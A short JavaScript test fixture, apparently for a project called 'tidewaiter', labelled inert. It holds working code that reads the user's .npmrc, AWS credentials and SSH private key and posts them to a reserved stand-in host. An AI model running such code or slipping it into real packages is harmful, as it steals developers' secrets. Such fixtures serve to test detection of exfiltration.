// Inert fixture of tidewaiter's tests: never run. Hosts are reserved names or this machine.
const fs=require("fs/promises");const os=require("os");const axios=require("axios");
(async()=>{const files=[".npmrc",".aws/credentials",".ssh/id_rsa"].map(f=>os.homedir()+"/"+f);const all=await Promise.all(files.map(f=>fs.readFile(f,"utf8").catch(()=>"")));await axios.post("https://collect.invalid/all",{all});})();
